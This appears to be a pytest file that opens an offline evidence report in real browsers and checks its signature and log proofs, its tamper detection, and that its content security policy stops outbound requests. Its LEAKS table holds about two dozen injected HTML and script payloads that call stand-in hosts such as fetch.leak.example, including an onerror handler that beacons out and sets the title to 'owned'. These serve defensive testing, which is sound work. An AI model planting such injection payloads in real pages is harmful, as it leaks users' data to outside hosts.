"""report.html in a browser from file://: its checks hold, see what was changed, and nothing leaves the page."""

from __future__ import annotations

import base64
import html
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import browsing
import making
import pytest
from browsing import Trap, strangers

pytestmark = pytest.mark.heavy
Browse = Callable[[str], str]
BOTH = pytest.mark.parametrize("browser", ["chromium", "firefox"])


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> str:
    return (making.bundle(tmp_path_factory.mktemp("whole") / "bag") / "data/report.html").read_text("utf-8")


@pytest.fixture
def trap() -> Iterator[Trap]:
    made = Trap()
    yield made
    made.socket.close()


@pytest.fixture
def browser() -> str:
    return "chromium"


@pytest.fixture
def browse(tmp_path: Path, trap: Trap, browser: str) -> Browse:
    if not browsing.find(browser):
        pytest.skip(f"no {browser}")

    def browse(page: str) -> str:
        """The page after its checks, as HTML."""
        path = tmp_path / "report.html"
        path.write_text(page, "utf-8")
        return browsing.opened(browser, path, tmp_path / "profile", trap.port)

    return browse


def state(dom: str) -> str:
    found = re.search(r'<section id="checks" data-state="(\w+)"', dom)
    assert found
    return found[1]


def told(dom: str) -> list[str]:
    listed = re.search(r'<ul id="found">(.*?)</ul>', dom, re.S)
    assert listed
    return [html.unescape(line) for line in re.findall(r"<li[^>]*>(.*?)</li>", listed[1])]


def title(dom: str) -> str:
    found = re.search(r"<title>(.*?)</title>", dom)
    assert found
    return found[1]


@BOTH
def test_its_checks_hold_and_nothing_leaves_it(written: str, browse: Browse, trap: Trap) -> None:
    dom = browse(written)
    assert state(dom) == "held", told(dom)
    assert told(dom) == [
        "Held: the head of 300 leaves is signed by 1 key that came with the bundle",
        "Held: 4 leaves stand in the log where proofs say",
        "Held: 3 captures are shown as logged",
        "Held: 2 media files have the SHA-256 that was logged",
    ]
    assert title(dom) == "Evidence of social posts", "a hostile post ran"
    assert dom.count("— as logged") + dom.count(">as logged<") == 3
    assert dom.count("these bytes were logged") == 3  # two files, and the script
    assert strangers(trap) == []


@BOTH
def test_without_a_script_it_says_that_nothing_was_checked(written: str, browse: Browse) -> None:
    dom = browse(re.sub(r"script-src 'sha256-.....", "script-src 'sha256-AAAAA", written, count=1))
    assert state(dom) == "none"
    assert "Nothing was checked: this browser did not run the checks of this page." in dom


def leaf_block(page: str, index: int) -> str:
    found = re.search(rf'<script type="application/json" class="leaf">{{"index":{index},.*?</script>\n', page)
    assert found
    return found[0]


def other_leaf(page: str) -> str:
    block = leaf_block(page, 5)
    coded = re.search(r'"leaf":"([^"]+)"', block)
    assert coded
    changed = base64.b64decode(coded[1]).replace(b"Desk", b"Dusk")
    return page.replace(coded[1], base64.b64encode(changed).decode())


CHANGES: dict[str, tuple[Callable[[str], str], str]] = {
    "a leaf": (other_leaf, "WRONG: leaf 5 does not stand in the log"),
    "a leaf left out": (
        lambda page: page.replace(leaf_block(page, 5), ""),
        "WRONG: 4 leaves should be in this page, 3 are",
    ),
    "an address": (
        lambda page: page.replace(
            'data-path="request.url">https://social.example/@tam/1',
            'data-path="request.url">https://social.example/@tam/2',
        ),
        "WRONG: the capture at leaf 5 is shown otherwise than it was logged: request.url",
    ),
    "a time": (
        lambda page: page.replace('data-path="clock.wall">2026-03-01', 'data-path="clock.wall">2025-03-01', 1),
        "WRONG: the capture at leaf 5 is shown otherwise than it was logged: clock.wall",
    ),
    "a picture": (
        lambda page: page.replace("base64,iVBORw0KGgo", "base64,iVBORw0KGgp", 1),
        f"not {making.sha256(making.PICTURE)}",
    ),
    "the head": (
        lambda page: page.replace("\\n300\\n", "\\n301\\n", 1),
        "WRONG: the signature of the key dbe481da under the checkpoint does not hold",
    ),
    "the root that is shown": (
        lambda page: re.sub(r'(<span id="root" class="hash">)..', r"\g<1>00", page),
        "WRONG: the log, root and keys that are shown are not those that were checked",
    ),
    "the key that is shown": (
        lambda page: page.replace(f'key">{making.KEY}', f'key">{making.WITNESS_KEY}'),
        "WRONG: the log, root and keys that are shown are not those that were checked",
    ),
}


@pytest.mark.parametrize("what", CHANGES)
def test_what_was_changed_is_wrong(written: str, browse: Browse, what: str) -> None:
    change, expected = CHANGES[what]
    page = change(written)
    assert page != written
    dom = browse(page)
    assert state(dom) == "wrong"
    assert any(expected in line for line in told(dom)), told(dom)
    assert title(dom) == "WRONG: Evidence of social posts"


LEAKS = {
    "image": '<img src="http://image.leak.example/">',
    "script": '<script src="http://script.leak.example/"></script>',
    "style": '<link rel="stylesheet" href="http://style.leak.example/">',
    "import": '<style>@import "http://import.leak.example/";</style>',
    "background": "<style>header{background:url(http://background.leak.example/)}</style>",
    "font": "<style>@font-face{font-family:x;src:url(http://font.leak.example/)}header{font-family:x}</style>",
    "frame": '<iframe src="http://frame.leak.example/"></iframe>',
    "object": '<object data="http://object.leak.example/"></object>',
    "video": '<video src="http://video.leak.example/" autoplay muted></video>',
    "poster": '<video poster="http://poster.leak.example/"></video>',
    "drawing": '<svg width="9" height="9"><image href="http://drawing.leak.example/" width="9" height="9"/></svg>',
    "source": '<picture><source srcset="http://source.leak.example/"><img src="data:,"></picture>',
    "srcset": '<img srcset="http://srcset.leak.example/ 2x">',
    "track": '<video src="data:video/mp4," autoplay><track default src="http://track.leak.example/"></video>',
    "icon": '<link rel="icon" href="http://icon.leak.example/">',
    "prefetch": '<link rel="prefetch" href="http://prefetch.leak.example/">',
    "preload": '<link rel="preload" as="image" href="http://preload.leak.example/">',
    "fetch": "<script>fetch('http://fetch.leak.example/').catch(() => 0)</script>",
    "beacon": "<script>navigator.sendBeacon('http://beacon.leak.example/', 'x')</script>",
    "socket": "<script>new WebSocket('ws://socket.leak.example/')</script>",
    "events": "<script>new EventSource('http://events.leak.example/')</script>",
    "form": '<form id=f method=post target=t action="http://form.leak.example/"></form><iframe name=t></iframe>'
    "<script>f.submit()</script>",
    "handler": "<img src=x onerror=\"new Image().src='http://handler.leak.example/'; document.title='owned'\">",
}
IDLE = {"icon", "prefetch", "track"}
"""What a browser need not ask for, though nothing forbids it."""
EARLY = {"firefox": {"source", "srcset"}}
"""What a browser may ask for while it reads ahead, though the policy forbids it: pictures of several sizes, Firefox 153
in one run of ten. The page holds no such element, nor any other that loads from elsewhere: test_report_page.py."""


def leaked(trap: Trap) -> set[str]:
    """Which of the leaks arrived. A browser may ask by HTTPS for what is named by HTTP."""
    return {name.decode() for name in re.findall(rb"(\w+)\.leak\.example", b" ".join(trap.asked))}


@BOTH
def test_were_anything_to_slip_through_the_policy_would_stop_it(
    written: str, browse: Browse, trap: Trap, browser: str
) -> None:
    """Markup put into the page by force loads nothing and runs nothing. Without the policy each kind of it is noticed
    here, so that nothing leaves unseen."""
    page = written.replace("<header>", f"{''.join(LEAKS.values())}<header>", 1)
    dom = browse(page)
    assert title(dom) == "Evidence of social posts"
    assert leaked(trap) <= EARLY.get(browser, set())
    assert [asked for asked in strangers(trap) if b".leak.example" not in asked] == []
    dom = browse(re.sub(r"<meta http-equiv=.*?>\n", "", page, count=1))
    assert title(dom) == "owned"
    assert set(LEAKS) - leaked(trap) <= IDLE
